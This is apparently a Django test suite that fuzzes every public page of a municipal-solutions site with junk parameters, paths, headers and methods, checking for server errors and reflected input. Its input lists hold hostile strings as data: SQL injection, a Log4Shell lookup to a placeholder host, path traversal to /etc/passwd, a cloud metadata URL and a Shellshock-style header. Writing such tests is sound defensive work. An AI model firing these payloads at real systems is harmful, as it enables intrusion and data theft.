"""A walk over every public address with junk in parameters, path, headers and method: no server error, no echo.

The addresses are read from the URL patterns, so a page added later is walked too.
"""

import random
import re

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver

from suche import index
from tests import factories as f

pytestmark = [pytest.mark.django_db, pytest.mark.langsam]

# Unescaped, each of these would end a text, an attribute or a script; the word makes them findable.
ECHO = [
    "<zaunkoenig>",
    '"zaunkoenig=1 ',
    "'zaunkoenig=1 ",
    "</script><zaunkoenig>",
    "<!--zaunkoenig-->",
    "{{zaunkoenig}}",
]
ALS_MARKE = re.compile(r"<!?-{0,2}/?zaunkoenig", re.IGNORECASE)
ALS_ATTRIBUT = re.compile(r"[\"']zaunkoenig=1", re.IGNORECASE)
MUELL = [
    *ECHO,
    "\x00",
    "\x01\x1f\x7f",
    "\r\nX-Boese: 1",
    "' OR '1'='1' --",
    '" OR ""="',
    "1; DROP TABLE loesungen_loesung; --",
    "${jndi:ldap://boese.example/a}",
    "{{7*7}}{% debug %}",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "http://169.254.169.254/",
    "%s%s%n%x",
    "-1",
    "0",
    "99999999999999999999",
    "1e309",
    "NaN",
    "²",
    "true",
    "[]",
    "\ud800",
    "\ufffe\uffff",
    "\u202e\u2066",
    "a" * 4000,
    "💩" * 50,
    "é" * 100,
    "(" * 500,
    '"' * 501,
    "*",
    "?",
    "|",
    "`id`",
]
# Parameters that the site reads, that frameworks read, and that nobody reads.
PARAMETER = [
    *("q", "seite", "sortierung", "genau", "bundesland", "staffel", "handlungsfeld", "reifegrad", "art", "offen"),
    *("lizenz", "groessenklasse", "schlagwort", "typ", "section", "p", "next", "format", "callback", "page", "_method"),
    *("q[]", "q.x", "__proto__", "unbekannt", ""),
]
KOPFZEILEN = [
    {"HTTP_ACCEPT": "*/*;q=quatsch"},
    {"HTTP_ACCEPT_LANGUAGE": "zz" * 500},
    {"HTTP_ACCEPT_ENCODING": "gzip;q=quatsch, br;q=9"},
    {"HTTP_COOKIE": "sessionid=" + "a" * 4000 + "; csrftoken='\"<zaunkoenig>; =; a"},
    {"HTTP_COOKIE": "sessionid=../../etc/passwd; messages=W1tdXQ"},
    {"HTTP_IF_NONE_MATCH": '"' + "a" * 2000},
    {"HTTP_IF_MODIFIED_SINCE": "gestern"},
    {"HTTP_IF_MODIFIED_SINCE": "Thu, 99 Foo 9999 99:99:99 GMT"},
    {"HTTP_RANGE": "bytes=5-1,-,99999999999-"},
    {"HTTP_REFERER": "javascript:alert('<zaunkoenig>')"},
    {"HTTP_ORIGIN": "null"},
    {"HTTP_USER_AGENT": "<zaunkoenig>() { :; }; echo"},
    {"HTTP_X_FORWARDED_FOR": "<zaunkoenig>, 1.2.3"},
    {"HTTP_X_REQUEST_ID": "<zaunkoenig>\u2028" * 50},
    {
        "HTTP_HX_REQUEST": "true",
        "HTTP_HX_CURRENT_URL": "https://boese.example/<zaunkoenig>",
        "HTTP_HX_TARGET": "<zaunkoenig>",
    },
    {"HTTP_HX_REQUEST": "true", "HTTP_HX_HISTORY_RESTORE_REQUEST": "true"},
    {"HTTP_AUTHORIZATION": "Basic quatsch"},
    {"HTTP_X_REQUESTED_WITH": "XMLHttpRequest"},
    {"HTTP_EXPECT": "100-continue"},
    {"CONTENT_LENGTH": "quatsch"},
    {"CONTENT_TYPE": "multipart/form-data; boundary=" + "x" * 300},
]
# A probe may say "not ready": that is an answer, not a failure.
DARF_503 = re.compile(r"^health")


def _oeffentliche_muster(wo=None, davor=""):
    for muster in (wo or get_resolver()).url_patterns:
        weg = davor + str(muster.pattern)
        if weg.startswith("admin/"):
            continue
        if isinstance(muster, URLResolver):
            yield from _oeffentliche_muster(muster, weg)
        elif isinstance(muster, URLPattern):
            yield weg.replace("^", "").replace("\\.", ".").rstrip("$")


def _gefuellt(weg: str, wert: str, zahl: str = "2019") -> str:
    return "/" + re.sub(r"<(?:(\w+):)?\w+>", lambda fund: zahl if fund[1] == "int" else wert, weg)


def _pruefen(antwort, was) -> None:
    if antwort.status_code == 503 and DARF_503.match(str(was[0])):
        return
    assert antwort.status_code < 500, was
    assert "X-Boese" not in antwort, was
    inhalt = b"".join(antwort.streaming_content) if antwort.streaming else antwort.content
    text, typ = inhalt.decode(errors="replace"), antwort.get("Content-Type", "")
    if "html" in typ or "xml" in typ:
        assert not ALS_MARKE.search(text), was
    if "html" in typ:  # a quotation mark in the text of an XML document is only that
        assert not ALS_ATTRIBUT.search(text), was
    assert b"root:x:" not in inhalt, was


@pytest.fixture
def welt(leerer_index):
    """At least one of everything, under names that the patterns are filled with."""
    kommune = f.KommuneFactory(name="Lemgo", schluessel="05766044")
    projekt = f.ModellprojektFactory(slug="echt", kommunen=[kommune])
    f.LoesungFactory(veroeffentlicht=True, slug="echt", titel="Echt", kommunen=[kommune], modellprojekt=projekt)
    f.HandlungsfeldFactory(slug="echt")
    f.KooperationFactory(slug="echt", mitglieder=[kommune])
    f.VeranstaltungFactory(slug="echt", beginn="2026-05-05")
    index.anwenden()


MUSTER = sorted(set(_oeffentliche_muster()))


def test_the_walk_knows_the_pages():
    """Else it would pass by walking nowhere."""
    assert {"", "loesungen/", "loesungen/<slug:slug>/", "suche/", "medien/<path:pfad>"} <= set(MUSTER)
    assert not [weg for weg in MUSTER if "(" in weg], "a pattern that the walk cannot fill"


def test_parameters(welt):
    """Every page with every kind of junk, several parameters at a time."""
    zufall = random.Random(20261122)
    client = Client()
    for weg in MUSTER:
        adresse = _gefuellt(weg, "echt")
        for muell in MUELL:
            daten = {name: [muell] for name in zufall.sample(PARAMETER, 5)}
            daten["q"] = [muell, zufall.choice(MUELL)]
            daten = {n: [w.encode("utf-8", "surrogatepass") for w in werte] for n, werte in daten.items()}
            _pruefen(client.get(adresse, daten), (weg, muell, list(daten)))


def test_every_parameter_alone(welt):
    client = Client()
    for weg in ("loesungen/", "kommunen/", "modellprojekte/", "suche/", "loesungen/feed/", "suche/vorschlaege/"):
        for name in PARAMETER:
            for muell in ECHO:
                _pruefen(client.get("/" + weg, {name: muell}), (weg, name, muell))


def test_paths(welt):
    client = Client()
    for weg in MUSTER:
        if "<" not in weg:
            continue
        for muell in MUELL:
            # As bytes of a request line: what is no ASCII is quoted by no browser alike.
            roh = muell.encode("utf-8", "surrogatepass").decode("latin-1")
            adresse = _gefuellt(weg, roh, zahl="99999999999999999999")
            _pruefen(client.get("/", PATH_INFO=adresse), (weg, muell))
    for muell in ("//", "/.git/config", "/.env", "/%2e%2e/", "/admin/../", "/loesungen//echt/", "/LOESUNGEN/", "/;/"):
        _pruefen(client.get("/", PATH_INFO=muell), (muell,))


def test_headers(welt):
    client = Client()
    for weg in MUSTER:
        for kopf in KOPFZEILEN:
            _pruefen(client.get(_gefuellt(weg, "echt"), **kopf), (weg, kopf))


@pytest.mark.parametrize(
    "methode", ["POST", "HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "PROPFIND", "QUATSCH"]
)
def test_methods(welt, methode):
    """Without a token, as from another site, no method changes anything."""
    client = Client(enforce_csrf_checks=True)
    for weg in MUSTER:
        antwort = client.generic(methode, _gefuellt(weg, "echt"), b"q=<zaunkoenig>", content_type="text/plain")
        _pruefen(antwort, (weg, methode))
        if methode not in ("HEAD", "OPTIONS"):
            # 422: the form for barriers takes no cookie; it looks at the sender itself and refuses in its own words.
            assert antwort.status_code in (403, 404, 405, 422), (weg, methode, antwort.status_code)
        if methode == "HEAD":
            assert not antwort.content
